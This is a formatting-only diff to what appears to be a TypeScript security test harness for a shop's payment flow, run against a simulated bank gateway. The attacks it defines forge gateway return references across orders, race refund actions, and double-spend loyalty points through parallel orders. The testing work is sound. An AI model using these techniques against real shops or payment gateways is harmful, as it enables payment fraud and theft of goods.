@@ -3,7 +3,16 @@ import { ADDED_PATHS, fillPath } from '@rasteh/contracts/paths'
 import { BANKS, type BankName, type Return } from '@rasteh/simulator/banks'
 import { type Attack, allHarms, type Harm, type Target } from './attack.ts'
 import { type Caller, jsonOf, openCaller } from './caller.ts'
-import { actAtBank, comeBack, goToBank, giveAddress, must, orderOf, paymentsOf, type Placed } from './shop/buying.ts'
+import {
+  actAtBank,
+  comeBack,
+  giveAddress,
+  goToBank,
+  must,
+  orderOf,
+  type Placed,
+  paymentsOf,
+} from './shop/buying.ts'
 import { enterAsStaff, makeCustomer } from './shop/people.ts'
 
 const CHEAP_RIAL = 7_040_000
@@ -28,7 +37,9 @@ async function standingOf({ shop, manager }: Judged, placed: Placed): Promise<St
     'select paid_at is not null as paid, payable_rial as payable from shop.orders where id = $1',
     [placed.orderId],
   )
-  const listed = await must(manager.call('GET', `${ADDED_PATHS.manageOrders}?state=refund-due&q=${placed.number}`))
+  const listed = await must(
+    manager.call('GET', `${ADDED_PATHS.manageOrders}?state=refund-due&q=${placed.number}`),
+  )
   const { Orders } = jsonOf<{ Orders: { Id: string; RefundRial: number }[] }>(listed)
   const payment = (await paymentsOf(shop)).find(({ authority }) => authority === placed.authority)
   return {
@@ -56,7 +67,8 @@ async function mixReturns({ shop }: Target, paid: Return, unpaid: Placed): Promi
   const own = await paymentsOf(shop)
   const mixed = Object.fromEntries(
     Object.entries(forged.fields).map(([name, value]) => {
-      const isReference = value.length >= 6 && !own.some(({ authority, orderId }) => [authority, orderId].includes(value))
+      const isReference =
+        value.length >= 6 && !own.some(({ authority, orderId }) => [authority, orderId].includes(value))
       return [name, isReference && paid.fields[name] ? paid.fields[name] : value]
     }),
   )
@@ -81,7 +93,9 @@ async function crossReference(target: Judged, gateway: BankName, dearFirst: bool
 
 async function crossReferences(target: Target): Promise<Harm | null> {
   const judged = await withManager(target)
-  const tries = BANKS.flatMap((gateway) => [true, false].map((first) => crossReference(judged, gateway, first)))
+  const tries = BANKS.flatMap((gateway) =>
+    [true, false].map((first) => crossReference(judged, gateway, first)),
+  )
   return allHarms(await Promise.all(tries))
 }
 
@@ -148,7 +162,9 @@ async function pressRefund(target: Target): Promise<Harm | null> {
   const AttemptNumber = rows[0]?.number ?? 0
   const answers = await Promise.all(
     Array.from({ length: PRESSES }, (_, at) =>
-      at % 2 === 0 ? act('refund', { AttemptNumber }) : act('refunded', { AttemptNumber, Note: 'کارت به کارت' }),
+      at % 2 === 0
+        ? act('refund', { AttemptNumber })
+        : act('refunded', { AttemptNumber, Note: 'کارت به کارت' }),
     ),
   )
   await setTimeout(SETTLED_MS)
@@ -172,23 +188,29 @@ async function spendScore(target: Target): Promise<Harm | null> {
   const { shop } = target
   const customer = await makeCustomer(shop)
   const addressId = await giveAddress(shop, customer)
-  await shop.owner.query("insert into shop.score_moves (customer_id, delta, reason) values ($1, $2, 'attack')", [
-    customer.customerId,
-    POINTS,
-  ])
+  await shop.owner.query(
+    "insert into shop.score_moves (customer_id, delta, reason) values ($1, $2, 'attack')",
+    [customer.customerId, POINTS],
+  )
   const { productId } = await shop.backRoom.shelve({ priceRial: DEAR_RIAL, stock: 200 })
   const buyer = openCaller(target, { cookies: customer.cookies })
-  await must(buyer.call('POST', '/api/shop/cart/create', { json: [{ ProductId: productId, Quantity: 1, Action: 1 }] }))
+  await must(
+    buyer.call('POST', '/api/shop/cart/create', { json: [{ ProductId: productId, Quantity: 1, Action: 1 }] }),
+  )
   await must(buyer.call('POST', ADDED_PATHS.score, { json: { IsUseUserScore: true } }))
   const order = await orderOf(buyer, { addressId, shop, gateway: 'zarinpal' })
   const refill = () =>
     buyer.call('POST', '/api/shop/cart/create', { json: [{ ProductId: productId, Quantity: 1, Action: 1 }] })
   await Promise.all(
     Array.from({ length: PARALLEL }, async (_, at) => {
-      await buyer.call('POST', '/api/shop/order/place', { json: { ...order, Key: `score-key-${at}-${customer.customerId}` } })
+      await buyer.call('POST', '/api/shop/order/place', {
+        json: { ...order, Key: `score-key-${at}-${customer.customerId}` },
+      })
       await refill()
       await buyer.call('POST', ADDED_PATHS.score, { json: { IsUseUserScore: true } })
-      await buyer.call('POST', '/api/shop/order/place', { json: { ...order, Key: `again-key-${at}-${customer.customerId}` } })
+      await buyer.call('POST', '/api/shop/order/place', {
+        json: { ...order, Key: `again-key-${at}-${customer.customerId}` },
+      })
     }),
   )
   const { rows } = await shop.owner.query<{ left: number; spent: number }>(
@@ -206,9 +228,29 @@ const atShop = {
 
 /** What people do with money that is not theirs. */
 export const paymentAttacks: Attack[] = [
-  { finding: 'H1', title: 'one paid reference settles or is owed twice (eight gateways)', ...atShop, run: crossReferences },
-  { finding: 'H2', title: 'an empty return holds the goods for ever (eight gateways)', ...atShop, run: returnsEmpty },
-  { finding: 'Untried', title: 'returns of Parsian, Zibal, Vandar and SnappPay crossed', ...atShop, run: crossBanks },
-  { finding: 'Untried', title: 'a refund pressed many times, by bank and by hand', ...atShop, run: pressRefund },
+  {
+    finding: 'H1',
+    title: 'one paid reference settles or is owed twice (eight gateways)',
+    ...atShop,
+    run: crossReferences,
+  },
+  {
+    finding: 'H2',
+    title: 'an empty return holds the goods for ever (eight gateways)',
+    ...atShop,
+    run: returnsEmpty,
+  },
+  {
+    finding: 'Untried',
+    title: 'returns of Parsian, Zibal, Vandar and SnappPay crossed',
+    ...atShop,
+    run: crossBanks,
+  },
+  {
+    finding: 'Untried',
+    title: 'a refund pressed many times, by bank and by hand',
+    ...atShop,
+    run: pressRefund,
+  },
   { finding: 'Untried', title: 'a score spent by many orders at once', ...atShop, run: spendScore },
 ]
